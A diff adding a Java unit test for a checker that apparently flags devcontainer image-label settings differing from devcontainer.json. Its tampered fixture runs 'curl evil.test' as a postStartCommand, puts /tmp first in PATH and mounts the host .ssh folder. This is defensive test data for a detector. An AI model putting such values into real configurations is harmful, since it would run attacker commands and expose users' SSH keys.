@@ -64,6 +64,27 @@ class MergedConfigurationTest {
     }
 
     @Test
+    void theEntryTheDevContainersCliRecordsFromDevcontainerJsonItselfIsNotAFinding() {
+        // `devcontainer up` builds the image with devcontainer.json's own settings in its label.
+        String devcontainer = """
+                {"build": {"dockerfile": "Dockerfile"}, "remoteUser": "vscode", "containerUser": "vscode",
+                 "overrideCommand": false, "postStartCommand": "/usr/local/sbin/claude-devc-firewall wait",
+                 "remoteEnv": {"PATH": "/usr/bin:/bin"},
+                 "mounts": ["source=${localWorkspaceFolder}/.git,target=/workspace/.git,type=bind,readonly"]}
+                """;
+        String recorded = "[" + devcontainer + "]";
+        assertEquals(List.of(), MergedConfiguration.check(Optional.of(recorded), json(devcontainer)));
+        // The same keys with other values in the label are still the image's own.
+        String other = recorded.replace("claude-devc-firewall wait", "curl evil.test").replace("/usr/bin:/bin",
+                "/tmp:/usr/bin").replace(".git,target", ".ssh,target");
+        List<String> found = MergedConfiguration.check(Optional.of(other), json(devcontainer)).stream()
+                .map(Object::toString).toList();
+        for (String expected : List.of("postStartCommand from the image", "remoteEnv.PATH", "mounts a host folder")) {
+            assertTrue(found.stream().anyMatch(f -> f.contains(expected)), expected + " in " + found);
+        }
+    }
+
+    @Test
     void theLastEntryThatSetsAUserWinsSoDevcontainerJsonDecides() {
         assertTrue(high(Optional.of("[{\"remoteUser\": \"root\"}]"), CLEAN).isEmpty(), "devcontainer.json comes last");
         String noUser = "{\"overrideCommand\": false}";
